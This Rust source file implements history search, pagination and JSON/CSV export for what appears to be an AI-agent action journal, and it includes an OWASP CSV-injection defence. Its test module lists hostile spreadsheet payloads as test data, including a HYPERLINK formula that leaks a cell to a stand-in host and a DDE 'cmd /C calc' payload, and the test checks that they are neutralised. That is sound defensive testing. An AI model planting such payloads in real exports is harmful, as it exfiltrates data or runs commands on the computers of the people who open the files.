//! Searching the history: text, tool, outcome and date filters, in pages, newest first;
//! and exporting what a search finds as JSON or CSV.
//!
//! The same [`HistoryQuery`] filters journal rows in SQL ([`Journal::search`]) and a
//! session's own entries in memory ([`HistoryQuery::matches`], for the demo or a journal
//! that could not be opened), so both read alike.

use rusqlite::types::Value as SqlValue;
use serde::Serialize;

use resolve_engine::{HistoryEntry, ResolveAction};

/// The export formats (one definition with the window's protocol).
pub use resolve_protocol::ExportFormat;

use crate::model::merge_page;
use crate::{Decision, Journal, JournalError, Recorded};

/// What became of an action, and a history search (one definition with the window's
/// protocol: empty text and `None`s match everything; text is found in the label, the
/// reason, the result text, the tool's name or the client's, ASCII case-insensitive).
pub use resolve_protocol::{HistoryOutcome as Outcome, HistoryQuery};

/// What became of a decision: `action`, or a failure when `is_error`.
pub fn outcome_of(action: ResolveAction, is_error: bool) -> Outcome {
    match (is_error, action) {
        (true, _) => Outcome::Failed,
        (false, ResolveAction::Apply) => Outcome::Applied,
        (false, ResolveAction::Discard) => Outcome::Discarded,
        (false, ResolveAction::Undo | ResolveAction::Redo) => Outcome::Reverted,
    }
}

/// A [`HistoryQuery`] run over journal rows (SQL) or a session's own entries (memory).
pub trait Filter {
    /// Whether a session's own entry matches (the in-memory twin of the SQL filter).
    fn matches(&self, h: &HistoryEntry) -> bool;
    fn sql(&self, workspace: &str) -> (String, Vec<SqlValue>);
}

impl Filter for HistoryQuery {
    fn matches(&self, h: &HistoryEntry) -> bool {
        let at = h.at.timestamp_millis();
        let needle = self.text.trim().to_ascii_lowercase();
        let haystack = || {
            [
                h.details.label.as_str(),
                h.details.reason.as_str(),
                h.text.as_str(),
                h.details.source_tool_name.as_str(),
                h.client.as_deref().unwrap_or(""),
            ]
            .iter()
            .any(|s| s.to_ascii_lowercase().contains(&needle))
        };
        self.tool.as_ref().is_none_or(|t| *t == h.details.source_tool_name)
            && self.outcome.is_none_or(|o| o == outcome_of(h.details.action, h.is_error))
            && self.from_ms.is_none_or(|f| at >= f)
            && self.to_ms.is_none_or(|t| at < t)
            && (needle.is_empty() || haystack())
    }

    /// The SQL condition and its parameters (anonymous `?`s, in order).
    fn sql(&self, workspace: &str) -> (String, Vec<SqlValue>) {
        let mut cond = String::from("workspace = ?");
        let mut args = vec![SqlValue::Text(workspace.to_string())];
        let text = self.text.trim();
        if !text.is_empty() {
            let escaped = text.replace('\\', "\\\\").replace('%', "\\%").replace('_', "\\_");
            let columns = ["label", "reason", "text", "source_tool_name", "ifnull(client, '')"];
            let any: Vec<String> = columns.iter().map(|c| format!("{c} LIKE ? ESCAPE '\\'")).collect();
            cond.push_str(&format!(" AND ({})", any.join(" OR ")));
            args.extend(columns.iter().map(|_| SqlValue::Text(format!("%{escaped}%"))));
        }
        if let Some(tool) = &self.tool {
            cond.push_str(" AND source_tool_name = ?");
            args.push(SqlValue::Text(tool.clone()));
        }
        match self.outcome {
            Some(Outcome::Applied) => cond.push_str(" AND action = 'apply' AND is_error = 0"),
            Some(Outcome::Discarded) => cond.push_str(" AND action = 'discard' AND is_error = 0"),
            Some(Outcome::Failed) => cond.push_str(" AND is_error = 1"),
            Some(Outcome::Reverted) => cond.push_str(" AND action IN ('undo', 'redo') AND is_error = 0"),
            None => {}
        }
        if let Some(from) = self.from_ms {
            cond.push_str(" AND at_ms >= ?");
            args.push(SqlValue::Integer(from));
        }
        if let Some(to) = self.to_ms {
            cond.push_str(" AND at_ms < ?");
            args.push(SqlValue::Integer(to));
        }
        (cond, args)
    }
}

/// One page of a search.
#[derive(Debug, Clone)]
pub struct Page {
    /// Newest first.
    pub rows: Vec<Recorded>,
    /// How many entries match in all.
    pub total: usize,
}

impl Journal {
    /// The entries of `workspace` that match `query`, newest first, from `offset`, at most
    /// `limit`. This session's entries (`current`) stand in for their rows (they keep what
    /// an agent proposed); one whose row could not be written is listed on the first page.
    pub fn search(
        &self,
        workspace: &str,
        current: &[HistoryEntry],
        query: &HistoryQuery,
        offset: usize,
        limit: usize,
    ) -> Result<Page, JournalError> {
        let (cond, args) = query.sql(workspace);
        let conn = self.lock();
        let total: i64 = conn.query_row(
            &format!("SELECT count(*) FROM decisions WHERE {cond}"),
            rusqlite::params_from_iter(args.iter()),
            |r| r.get(0),
        )?;
        let mut page_args = args.clone();
        page_args.push(SqlValue::Integer(limit.min(i64::MAX as usize) as i64));
        page_args.push(SqlValue::Integer(offset.min(i64::MAX as usize) as i64));
        let mut stmt = conn.prepare(&format!(
            "SELECT {} FROM decisions WHERE {cond} ORDER BY at_ms DESC, id DESC LIMIT ? OFFSET ?",
            crate::model::DECISION_COLUMNS
        ))?;
        let rows = stmt.query_map(rusqlite::params_from_iter(page_args.iter()), crate::model::decision_row)?;
        let mut decisions: Vec<Decision> = Vec::new();
        for row in rows {
            decisions.push(crate::model::decode(row?)?);
        }
        drop(stmt);
        drop(conn);
        let matching: Vec<HistoryEntry> = current.iter().filter(|h| query.matches(h)).cloned().collect();
        let rows = merge_page(current, &matching, &decisions, offset == 0);
        let missing = rows.len().saturating_sub(decisions.len());
        Ok(Page { rows, total: total as usize + missing })
    }

    /// Who asked for each of `action_ids` in `workspace`: the client named by the call that
    /// pushed it (the `pushes` rows), for the ids that have one.
    pub fn asked_by(
        &self,
        workspace: &str,
        action_ids: &[String],
    ) -> Result<std::collections::HashMap<String, String>, JournalError> {
        let conn = self.lock();
        let mut stmt = conn.prepare(
            "SELECT client FROM pushes WHERE workspace = ?1 AND action_id = ?2 AND client IS NOT NULL
             ORDER BY at_ms DESC, id DESC LIMIT 1",
        )?;
        let mut out = std::collections::HashMap::new();
        for id in action_ids {
            let client: Option<String> =
                stmt.query_row(rusqlite::params![workspace, id], |r| r.get(0)).map(Some).or_else(|e| match e {
                    rusqlite::Error::QueryReturnedNoRows => Ok(None),
                    e => Err(e),
                })?;
            if let Some(c) = client {
                out.insert(id.clone(), c);
            }
        }
        Ok(out)
    }

    /// The tools that have entries in `workspace`, by name (for the tool filter).
    pub fn tools(&self, workspace: &str) -> Result<Vec<String>, JournalError> {
        let conn = self.lock();
        let mut stmt =
            conn.prepare("SELECT DISTINCT source_tool_name FROM decisions WHERE workspace = ?1 ORDER BY 1")?;
        let names = stmt.query_map([workspace], |r| r.get::<_, String>(0))?;
        Ok(names.collect::<Result<_, _>>()?)
    }
}

/// One exported entry (the columns of the CSV, the fields of the JSON objects).
#[derive(Debug, Clone, Serialize)]
pub struct ExportRow {
    /// RFC 3339, UTC.
    pub at: String,
    pub outcome: &'static str,
    pub decided_by: &'static str,
    /// The agent or MCP client that made the deciding call.
    pub client: String,
    pub label: String,
    pub tool: String,
    pub reason: String,
    pub result: String,
    pub action_id: String,
    pub earlier_session: bool,
    /// "Request changes": a discard that asked the agent for a new preview.
    pub changes_requested: bool,
    /// The review's comments, one `path:line: "quote" — comment` line each, in file order.
    pub comments: String,
}

impl ExportRow {
    pub fn of(r: &Recorded) -> ExportRow {
        let h = &r.entry;
        ExportRow {
            at: h.at.to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
            outcome: match (h.is_error, h.details.action) {
                (false, ResolveAction::Undo) => "undone",
                (false, ResolveAction::Redo) => "redone",
                (is_error, action) => outcome_of(action, is_error).as_str(),
            },
            decided_by: crate::model::actor_name(h.actor),
            client: h.client.clone().unwrap_or_default(),
            label: h.details.label.clone(),
            tool: h.details.source_tool_name.clone(),
            reason: h.details.reason.clone(),
            result: h.text.clone(),
            action_id: h.details.action_id.clone(),
            earlier_session: r.earlier_session,
            changes_requested: h.details.requests_changes(),
            comments: h.details.review.as_ref().map_or(String::new(), |r| {
                r.comments.iter().map(resolve_engine::Comment::render).collect::<Vec<_>>().join("\n")
            }),
        }
    }
}

/// A CSV cell a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab
/// or a carriage return) gets a leading `'`, the OWASP "CSV injection" defence: a label,
/// reason or result written by an agent cannot become `=HYPERLINK(…)` or a DDE command when
/// the export is opened. Other cells are unchanged.
fn neutralise_formula(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

impl ExportRow {
    /// The row with every text cell safe to open in a spreadsheet ([`neutralise_formula`]).
    fn for_spreadsheet(self) -> ExportRow {
        ExportRow {
            client: neutralise_formula(self.client),
            label: neutralise_formula(self.label),
            tool: neutralise_formula(self.tool),
            reason: neutralise_formula(self.reason),
            result: neutralise_formula(self.result),
            action_id: neutralise_formula(self.action_id),
            comments: neutralise_formula(self.comments),
            ..self
        }
    }
}

/// `rows` as a JSON array of objects (every value as recorded), or as CSV with a header line
/// (RFC 4180 quoting; cells that would run as spreadsheet formulas start with `'`).
pub fn export(rows: &[Recorded], format: ExportFormat) -> Result<Vec<u8>, JournalError> {
    let rows: Vec<ExportRow> = rows.iter().map(ExportRow::of).collect();
    match format {
        ExportFormat::Json => {
            let mut out = serde_json::to_vec_pretty(&rows).map_err(|e| JournalError::Export(e.to_string()))?;
            out.push(b'\n');
            Ok(out)
        }
        ExportFormat::Csv => {
            let mut w = csv::Writer::from_writer(Vec::new());
            let empty = rows.is_empty();
            for r in rows {
                w.serialize(r.for_spreadsheet()).map_err(|e| JournalError::Export(e.to_string()))?;
            }
            if empty {
                w.write_record([
                    "at",
                    "outcome",
                    "decided_by",
                    "client",
                    "label",
                    "tool",
                    "reason",
                    "result",
                    "action_id",
                    "earlier_session",
                    "changes_requested",
                    "comments",
                ])
                .map_err(|e| JournalError::Export(e.to_string()))?;
            }
            w.into_inner().map_err(|e| JournalError::Export(e.to_string()))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use resolve_engine::Actor;

    const WS: &str = "/ws/search";

    /// Row `i` of a synthetic history: tools, outcomes and actors in turn, one minute apart.
    fn row(i: i64) -> Decision {
        let tools = ["ast_edit", "batch_rename_preview", "custom_tool"];
        let (action, is_error) = match i % 4 {
            0 => (ResolveAction::Apply, false),
            1 => (ResolveAction::Discard, false),
            2 => (ResolveAction::Apply, true),
            _ => (ResolveAction::Apply, false),
        };
        Decision {
            workspace: WS.into(),
            at_ms: 1_700_000_000_000 + i * 60_000,
            actor: [Actor::Person, Actor::Agent, Actor::Script][(i % 3) as usize],
            action,
            action_id: format!("a{i}"),
            label: format!("Action number {i}"),
            source_tool_name: tools[(i % 3) as usize].into(),
            reason: if i == 4242 {
                "100% the Needle, \"quoted\", comma\nnew line".into()
            } else {
                format!("reason {i}")
            },
            is_error,
            text: format!("text {i}"),
            client: (i % 3 == 1).then(|| "claude-code".to_string()),
            partial: None,
            review: None,
        }
    }

    fn journal_with(n: i64) -> (tempfile::TempDir, Journal) {
        let dir = tempfile::tempdir().unwrap();
        let j = Journal::open(&dir.path().join("journal.sqlite3")).unwrap();
        for i in 0..n {
            j.record(&row(i)).unwrap();
        }
        j.record(&Decision { workspace: "/ws/other".into(), ..row(1) }).unwrap();
        (dir, j)
    }

    fn ids(page: &Page) -> Vec<String> {
        page.rows.iter().map(|r| r.entry.details.action_id.clone()).collect()
    }

    #[test]
    fn pages_through_ten_thousand_entries_newest_first_and_counts_them() {
        let (_d, j) = journal_with(10_000);
        let all = HistoryQuery::default();
        let first = j.search(WS, &[], &all, 0, 50).unwrap();
        assert_eq!(first.total, 10_000, "the other workspace's row is not counted");
        assert_eq!(ids(&first)[0], "a9999");
        assert_eq!(first.rows.len(), 50);
        let last = j.search(WS, &[], &all, 9_990, 50).unwrap();
        assert_eq!(ids(&last), (0..10).rev().map(|i| format!("a{i}")).collect::<Vec<_>>());
        assert!(last.rows.iter().all(|r| r.earlier_session), "no entry is this session's");
    }

    #[test]
    fn filters_by_text_tool_outcome_and_date() {
        let (_d, j) = journal_with(10_000);
        let q = |q: HistoryQuery| j.search(WS, &[], &q, 0, 100_000).unwrap();
        // Case-insensitive, in the reason; `%` is a character, not a wildcard.
        let found = q(HistoryQuery { text: "100% THE needle".into(), ..Default::default() });
        assert_eq!(ids(&found), vec!["a4242"]);
        assert_eq!(q(HistoryQuery { text: "100%%".into(), ..Default::default() }).total, 0);
        assert_eq!(q(HistoryQuery { text: "_".into(), ..Default::default() }).total, 10_000, "tool names have one");
        assert_eq!(q(HistoryQuery { text: "claude".into(), ..Default::default() }).total, 3_333, "the client's name");
        let renames = q(HistoryQuery { tool: Some("batch_rename_preview".into()), ..Default::default() });
        assert_eq!(renames.total, 3_333);
        assert!(renames.rows.iter().all(|r| r.entry.details.source_tool_name == "batch_rename_preview"));
        let failed = q(HistoryQuery { outcome: Some(Outcome::Failed), ..Default::default() });
        assert_eq!(failed.total, 2_500);
        assert!(failed.rows.iter().all(|r| r.entry.is_error));
        let discarded = q(HistoryQuery { outcome: Some(Outcome::Discarded), ..Default::default() });
        assert!(discarded.rows.iter().all(|r| !r.entry.is_error && r.entry.details.action == ResolveAction::Discard));
        assert_eq!(q(HistoryQuery { outcome: Some(Outcome::Applied), ..Default::default() }).total, 5_000);
        let from = row(100).at_ms;
        let to = row(110).at_ms;
        let window = q(HistoryQuery { from_ms: Some(from), to_ms: Some(to), ..Default::default() });
        assert_eq!(ids(&window), (100..110).rev().map(|i| format!("a{i}")).collect::<Vec<_>>());
        let all_of_them = q(HistoryQuery {
            text: "number 10".into(),
            tool: Some("batch_rename_preview".into()),
            outcome: Some(Outcome::Discarded),
            from_ms: Some(from),
            to_ms: None,
        });
        // "number 10…" rows from 100 on, batch rename (i % 3 == 1) and discarded (i % 4 == 1).
        let expected: Vec<String> = (100..10_000)
            .rev()
            .filter(|i| format!("Action number {i}").contains("number 10") && i % 3 == 1 && i % 4 == 1)
            .map(|i| format!("a{i}"))
            .collect();
        assert!(!expected.is_empty());
        assert_eq!(ids(&all_of_them), expected);
        // The in-memory twin agrees on every row.
        for r in &all_of_them.rows {
            assert!(HistoryQuery { text: "NUMBER 10".into(), ..Default::default() }.matches(&r.entry));
        }
    }

    #[test]
    fn this_sessions_entries_stand_in_for_their_rows_and_are_not_marked_earlier() {
        let (_d, j) = journal_with(20);
        let mine = row(19).to_history();
        let unwritten = Decision { action_id: "a-unwritten".into(), at_ms: row(19).at_ms + 1, ..row(19) }.to_history();
        let page = j.search(WS, &[mine, unwritten.clone()], &HistoryQuery::default(), 0, 5).unwrap();
        assert_eq!(ids(&page)[..2], ["a-unwritten".to_string(), "a19".to_string()]);
        assert!(!page.rows[0].earlier_session && !page.rows[1].earlier_session);
        assert!(page.rows[2].earlier_session);
        assert_eq!(page.total, 21);
        // Later pages do not repeat it.
        let second = j.search(WS, &[unwritten], &HistoryQuery::default(), 5, 5).unwrap();
        assert!(!ids(&second).contains(&"a-unwritten".to_string()));
    }

    #[test]
    fn asked_by_names_the_client_that_pushed_each_action() {
        let (_d, j) = journal_with(3);
        let push = |id: &str, client: Option<&str>| crate::Push {
            workspace: WS.into(),
            at_ms: 1,
            action_id: id.into(),
            tool_call: None,
            label: "l".into(),
            source_tool_name: "ast_edit".into(),
            client: client.map(String::from),
            files: serde_json::json!([]),
        };
        j.record_push(&push("a0", Some("claude-code"))).unwrap();
        j.record_push(&push("a1", None)).unwrap();
        j.record_push(&crate::Push { workspace: "/ws/other".into(), ..push("a2", Some("other")) }).unwrap();
        let asked = j.asked_by(WS, &["a0".into(), "a1".into(), "a2".into(), "nope".into()]).unwrap();
        assert_eq!(asked.len(), 1, "{asked:?}");
        assert_eq!(asked["a0"], "claude-code");
    }

    #[test]
    fn lists_the_tools_of_a_workspace() {
        let (_d, j) = journal_with(6);
        assert_eq!(j.tools(WS).unwrap(), vec!["ast_edit", "batch_rename_preview", "custom_tool"]);
        assert!(j.tools("/ws/none").unwrap().is_empty());
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_json_keeps_them() {
        let (_d, j) = journal_with(0);
        let hostile = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
        ];
        for (i, text) in hostile.iter().enumerate() {
            let mut d = row(i as i64);
            d.reason = text.to_string();
            d.label = format!("={i}");
            j.record(&d).unwrap();
        }
        j.record(&Decision { reason: "fine = ok, - also fine".into(), ..row(10) }).unwrap();
        let page = j.search(WS, &[], &HistoryQuery::default(), 0, 100).unwrap();
        let csv_bytes = export(&page.rows, ExportFormat::Csv).unwrap();
        let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
        let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
        let (mut reasons, mut labels) = (Vec::new(), Vec::new());
        for r in reader.records().map(Result::unwrap) {
            reasons.push(r[col("reason")].to_string());
            labels.push(r[col("label")].to_string());
        }
        assert!(labels.contains(&"'=0".to_string()) && labels.contains(&"Action number 10".to_string()), "{labels:?}");
        for text in hostile {
            assert!(reasons.contains(&format!("'{text}")), "{text:?} is exported as '{text:?}: {reasons:?}");
        }
        assert!(
            reasons.contains(&"fine = ok, - also fine".to_string()),
            "a cell that does not start a formula is unchanged"
        );
        let json: serde_json::Value = serde_json::from_slice(&export(&page.rows, ExportFormat::Json).unwrap()).unwrap();
        let json_reasons: Vec<&str> = json.as_array().unwrap().iter().map(|r| r["reason"].as_str().unwrap()).collect();
        for text in hostile {
            assert!(json_reasons.contains(&text), "JSON keeps {text:?} exactly as recorded");
        }
    }

    #[test]
    fn exports_csv_that_reads_back_field_for_field_and_json() {
        let (_d, j) = journal_with(5_000);
        let page = j.search(WS, &[], &HistoryQuery { text: "needle".into(), ..Default::default() }, 0, 10).unwrap();
        assert_eq!(ids(&page), vec!["a4242"]);
        let csv_bytes = export(&page.rows, ExportFormat::Csv).unwrap();
        let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
        let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(headers[..3], ["at".to_string(), "outcome".into(), "decided_by".into()]);
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 1);
        let field = |name: &str| records[0][headers.iter().position(|h| h == name).unwrap()].to_string();
        assert_eq!(field("reason"), row(4242).reason, "quotes, commas and the newline survive");
        assert_eq!(field("outcome"), "failed");
        assert_eq!(field("decided_by"), "person");
        assert_eq!(field("at"), "2023-11-17T20:55:20.000Z");
        let json: serde_json::Value = serde_json::from_slice(&export(&page.rows, ExportFormat::Json).unwrap()).unwrap();
        assert_eq!(json[0]["reason"], row(4242).reason);
        assert_eq!(json[0]["earlier_session"], true);
        // Nothing found: the CSV still names its columns; the JSON is an empty array.
        let empty = String::from_utf8(export(&[], ExportFormat::Csv).unwrap()).unwrap();
        assert!(empty.starts_with("at,outcome,decided_by,client,label,tool,reason,result,action_id,earlier_session"));
        assert_eq!(
            serde_json::from_slice::<serde_json::Value>(&export(&[], ExportFormat::Json).unwrap()).unwrap(),
            serde_json::json!([])
        );
    }
}
